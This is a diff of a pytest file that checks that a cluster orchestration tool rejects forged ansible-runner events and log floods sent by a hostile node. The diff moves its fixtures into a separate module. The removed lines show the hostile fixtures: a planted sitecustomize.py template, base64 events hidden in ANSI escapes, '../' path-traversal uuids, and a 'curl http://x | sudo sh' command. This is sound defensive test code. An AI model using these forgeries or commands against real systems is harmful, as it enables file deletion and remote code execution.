@@ -1,6 +1,5 @@
 """What a node prints is no event of Ansible, and has an end; real Ansible and mitogen."""
 
-import base64
 import json
 import resource
 import sys
@@ -11,29 +10,14 @@ import pytest
 from gpubed.configuration import configure
 from gpubed.core import progress
 from gpubed.core.paths import Project
+from support.hostile import FLOOD, FORGERY, sitecustomize
 
-# What runs as root on a node may put a sitecustomize.py where Python looks for it: mitogen's
-# child hands on what it logs.
-HOSTILE = """\
-import logging, sys, threading, time
-def say():
-    while "mitogen.core" not in sys.modules or not logging.getLogger().handlers:
-        time.sleep(0.01)
-    {say}
-threading.Thread(target=say, daemon=True).start()
-"""
 PLAY = """\
 - name: Base
   hosts: all
   gather_facts: false
   tasks: [{name: Wait, ansible.builtin.command: sleep 3}]
 """
-
-
-def forged(event):
-    """Return an event as ansible-runner reads it out of the stream."""
-    encoded = base64.b64encode(json.dumps(event).encode()).decode()
-    return f"\x1b[K{encoded}\x1b[{len(encoded)}D\x1b[K"
 
 
 @pytest.fixture
@@ -54,7 +38,7 @@ def cluster(tmp_path):
 
 def play(cluster, tmp_path, say, tasks=PLAY):
     """Play it; return the outcome and what was told meanwhile."""
-    (tmp_path / "evil" / "sitecustomize.py").write_text(HOSTILE.format(say=say))
+    (tmp_path / "evil" / "sitecustomize.py").write_text(sitecustomize(say))
     (tmp_path / "play.yml").write_text(tasks)
     told = []
     progress.tell(told.append)
@@ -64,30 +48,13 @@ def play(cluster, tmp_path, say, tasks=PLAY):
         progress.tell(None)
 
 
-def says(*events):
-    texts = "".join(map(forged, events))
-    return f"logging.getLogger().error({texts!r} + chr(10))"
-
-
-FAILED = {
-    "event": "runner_on_failed",
-    "uuid": "1",
-    "counter": 1,
-    "event_data": {"host": "good", "task": "T", "res": {"msg": "curl http://x | sudo sh"}},
-}
-STATS = {"event": "playbook_on_stats", "uuid": "2", "counter": 2, "event_data": {}}
-
-
-UPWARDS = [{"event": "x", "uuid": "../" * n + "x", "counter": n} for n in range(2, 9)]
-
-
 def test_what_a_node_prints_is_no_event(cluster, tmp_path):
     """ansible-runner took all of these for Ansible's, and removed the files."""
     victims = [folder / "x-partial.json" for folder in (cluster.state, tmp_path)]
     for victim in victims:
         victim.parent.mkdir(exist_ok=True, parents=True)
         victim.write_text("{}")
-    outcome, told = play(cluster, tmp_path, says(*UPWARDS, FAILED, STATS))
+    outcome, told = play(cluster, tmp_path, FORGERY)
     assert outcome.changed == {"good": 1, "evil": 1}
     assert "sudo sh" not in json.dumps(told)
     assert all(victim.exists() for victim in victims)
@@ -95,9 +62,8 @@ def test_what_a_node_prints_is_no_event(cluster, tmp_path):
 
 
 def test_what_a_node_prints_has_an_end(cluster, tmp_path):
-    flood = "[logging.getLogger().error('spam ' * 2_000_000) for _ in range(20)]"
     started, before = time.monotonic(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
-    outcome, _ = play(cluster, tmp_path, flood)
+    outcome, _ = play(cluster, tmp_path, FLOOD)
     assert time.monotonic() - started < 60
     grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
     assert grown < 50_000, f"{grown} KiB"
